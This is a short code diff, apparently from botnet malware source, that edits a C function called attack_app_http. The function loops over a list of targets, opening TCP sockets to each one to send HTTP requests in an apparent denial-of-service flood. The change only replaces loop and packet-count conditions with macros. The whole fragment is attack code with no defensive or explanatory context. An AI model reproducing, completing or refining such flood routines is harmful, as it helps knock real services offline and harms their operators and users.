@@ -86,11 +86,11 @@ void attack_app_http(ATTACK_ARGUMENTS)
         return;
     if (body != NULL && util_strlen(body) > 512)
         return;
-    for (i = 0; i < connections && target_count > 0; i++) {
+    for (i = 0; REPEATING(i < connections) && target_count > 0; i++) {
         struct attack_target *target = &targets[i % target_count];
         char request[2048], answer[1024];
         int length, fd;
-        if (packets_left < 2 || (fd = socket(AF_INET, SOCK_STREAM, 0)) == -1)
+        if (TOO_FEW_LEFT(2) || (fd = socket(AF_INET, SOCK_STREAM, 0)) == -1)
             break;
         target->sock_addr.sin_family = AF_INET;
         target->sock_addr.sin_addr.s_addr = attack_draw_address(target);
